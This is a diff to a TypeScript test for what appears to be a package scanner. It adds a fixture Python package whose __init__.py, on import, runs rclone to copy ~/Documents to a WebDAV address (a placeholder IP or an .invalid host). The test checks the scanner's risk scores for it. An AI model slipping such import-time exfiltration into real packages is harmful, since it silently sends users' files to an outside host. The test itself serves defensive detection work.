@@ -318,3 +318,18 @@ test('a build that fetches data by a tool does what one that fetches it in Pytho
   ])
     expect(await fetching(line), line).toBeGreaterThanOrEqual(5);
 });
+
+test('any program that an import tells a bare address is worth a look', async () => {
+  const copy = (place: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import subprocess',
+        `subprocess.run('rclone copy ~/Documents :webdav:/x --webdav-url ${place}', shell=True)`,
+      ),
+    });
+
+  expect(await inspect('unasked-process', copy('http://203.0.113.7/dav'))).toMatchObject([
+    { score: 7, context: 'import' },
+  ]);
+  expect(await inspect('unasked-process', copy('https://dav.vendor.invalid/'))).toMatchObject([{ score: 4 }]);
+});
